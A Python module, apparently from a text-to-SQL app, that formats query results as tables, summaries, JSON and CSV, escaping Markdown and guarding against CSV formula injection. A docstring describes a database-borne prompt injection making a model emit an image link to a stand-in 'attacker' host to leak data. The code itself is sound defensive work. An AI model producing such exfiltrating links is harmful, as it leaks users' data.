"""Query results shaped for people and programs: a table, a one-line summary, CSV, JSON.

    frame = result_frame(result)          # pandas DataFrame for gr.Dataframe
    frame = candidates_frame(generation.candidates, generation.repair)   # best of k: what was chosen from
    text = result_summary(result, has_data=True)
    payload = result_json(result)         # {"columns", "rows", "truncated", "elapsed_ms", "error"}
"""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path

import pandas as pd

from text2sql.sandbox import QueryResult


def plain(text: str) -> str:
    """Untrusted text (a model's answer, an error quoting SQL or table names) for a Markdown
    component, with no image, link or HTML left in it: a prompt injected through the database
    could make the model write ![x](https://attacker/?data), and the browser would fetch it."""
    return re.sub(r"([\\\[\]<>!])", r"\\\1", str(text))


def cell(value):
    """A value as shown and exported: blobs as their size (raw bytes are neither text nor JSON)."""
    if isinstance(value, bytes):
        return f"<{len(value)} bytes>"
    return value


def unique_headers(columns: list[str]) -> list[str]:
    """Column names made distinct (``SELECT a.id, b.id`` gives two ``id``s), so tables keep both."""
    seen: Counter = Counter()
    headers = []
    for name in columns:
        seen[name] += 1
        headers.append(name if seen[name] == 1 else f"{name} ({seen[name]})")
    return headers


def result_frame(result: QueryResult) -> pd.DataFrame:
    rows = [[cell(v) for v in row] for row in result.rows]
    return pd.DataFrame(rows, columns=unique_headers(result.columns))


def candidates_frame(candidates: list, repair=None) -> pd.DataFrame:
    """Best-of-k's candidates (and the repair, if one ran), one row each, in the order drawn."""
    rows = [[str(i), c.votes, round(c.logprob, 2), c.sql, c.error or ""] for i, c in enumerate(candidates, 1)]
    if repair is not None:
        rows.append(["repair", repair.votes, round(repair.logprob, 2), repair.sql, repair.error or ""])
    return pd.DataFrame(rows, columns=["candidate", "votes", "log-likelihood", "SQL", "problem"])


def result_summary(result: QueryResult, has_data: bool) -> str:
    """One Markdown line saying what happened, in plain words."""
    if not result.ok:
        return f"❌ {plain(result.error)}"
    if not has_data:
        return "✅ The SQL is valid for this schema. A pasted schema has no rows, so there is no table to show."
    count = len(result.rows)
    text = f"✅ {count} row{'' if count == 1 else 's'} in {result.elapsed_ms:.1f} ms"
    if result.truncated:
        text += f" — truncated: only the first {count:,} rows are shown"
    return text


def result_json(result: QueryResult) -> dict:
    return {
        "columns": result.columns,
        "rows": [[cell(v) for v in row] for row in result.rows],
        "truncated": result.truncated,
        "elapsed_ms": round(result.elapsed_ms, 2),
        "error": result.error,
    }


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""Spreadsheets run a cell that starts with one of these as a formula (OWASP "CSV injection")."""


def spreadsheet_safe(value):
    """Text that a spreadsheet would run as a formula, with a leading ``'`` so it stays text:
    the rows come from an uploaded file and a model's query, both untrusted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(result: QueryResult, path: Path) -> Path:
    """The result as CSV; text cells that would run as a formula are prefixed with ``'``."""
    frame = result_frame(result)
    frame.map(spreadsheet_safe).rename(columns=spreadsheet_safe).to_csv(path, index=False)
    return path


def results_agree(results: list[QueryResult]) -> bool:
    """True when every result has the same rows, in any order (column names aside)."""
    bags = [Counter(result.rows) for result in results]
    return all(bag == bags[0] for bag in bags)
